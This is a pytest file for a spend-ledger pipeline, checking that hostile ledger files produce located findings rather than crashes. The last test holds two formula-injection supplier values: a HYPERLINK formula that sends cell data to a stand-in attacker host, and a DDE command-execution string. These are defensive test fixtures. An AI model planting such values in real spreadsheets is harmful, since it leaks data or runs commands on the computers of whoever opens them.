"""Every hostile ledger in tests/corpus/ledgers/ ends in located findings, never a traceback.

``tests/corpus/ledgers/cases.toml`` (written with the files by ``scripts/make_ledger_corpus.py``)
lists per spend file the payments it must count against the sample plan (how many, and their
total to the penny) and every finding it must give, as (code, sheet, cell) with a fragment of
what was seen and a fragment of how to fix it.
"""

from __future__ import annotations

import os
import shutil
import tomllib
from decimal import Decimal
from pathlib import Path
from typing import Any

import pytest

from pipeline.findings import Finding
from pipeline.ledger import read_ledgers
from pipeline.ledger_values import pounds
from pipeline.load import load
from pipeline.model import Plan
from pipeline.position import build_position

ROOT = Path(__file__).resolve().parent.parent
LEDGERS = ROOT / "tests" / "corpus" / "ledgers"
CASES: list[dict[str, Any]] = tomllib.loads((LEDGERS / "cases.toml").read_text("utf-8"))["case"]
PLAN_FILE = "lincolnshire-2021-22.xlsx"


@pytest.fixture(scope="module")
def plan() -> Plan:
    plan = load(ROOT / "input" / PLAN_FILE, label=PLAN_FILE).plan
    assert plan is not None
    return plan


def spend_of(plan: Plan, path: Path) -> tuple[list[Finding], int, Decimal]:
    """As a build reads a spend file: its findings and the position's, the payments counted
    in the plan's year and their total."""
    read = read_ledgers([path], labels=[path.name])
    position = build_position(plan, read.payments)
    findings = list(read.findings) + (list(position.findings) if position else [])
    if position is None:
        return findings, 0, Decimal(0)
    counted = read.payments[read.payments["date"].dt.year == 2021]
    return findings, position.payments, pounds(int(counted["amount"].sum()))


def test_the_ledger_corpus_is_complete() -> None:
    files = {p.name for p in LEDGERS.iterdir() if p.name != "cases.toml"}
    assert files == {c["file"] for c in CASES}
    assert len(CASES) >= 20


@pytest.mark.parametrize("case", CASES, ids=[c["file"] for c in CASES])
def test_ledger_case_gives_exactly_its_findings(
    case: dict[str, Any], plan: Plan, tmp_path: Path
) -> None:
    path = LEDGERS / case["file"]
    if case.get("grow_to"):
        # A file that big is not kept in the repository: a sparse copy grows it in a moment.
        path = Path(shutil.copy(path, tmp_path / case["file"]))
        os.truncate(path, case["grow_to"])
    findings, counted, total = spend_of(plan, path)
    shown = "\n".join(f"{f.code} {f.sheet} {f.cell} {f.message}" for f in findings)
    got = sorted((f.code, f.sheet, f.cell) for f in findings)
    assert got == sorted((e["code"], e["sheet"], e["cell"]) for e in case["expect"]), shown
    for wanted in case["expect"]:
        where = (wanted["code"], wanted["sheet"], wanted["cell"])
        messages = [f.message for f in findings if (f.code, f.sheet, f.cell) == where]
        assert any(wanted["says"] in m and wanted["fix"] in m for m in messages), (wanted, shown)
    for finding in findings:
        assert finding.file in (case["file"], PLAN_FILE)  # the spend file, or the plan's figure
        assert finding.message.endswith((".", ")")), finding.message
    assert (counted, total) == (case["counted"], Decimal(case["total"]))


def test_formula_injection_suppliers_stay_text(plan: Plan) -> None:
    read = read_ledgers([LEDGERS / "formula-injection.csv"])
    suppliers = set(read.payments["supplier"])
    assert '=HYPERLINK("http://evil.example/?leak="&A1,"Click")' in suppliers
    assert "+cmd|' /C calc'!A0" in suppliers
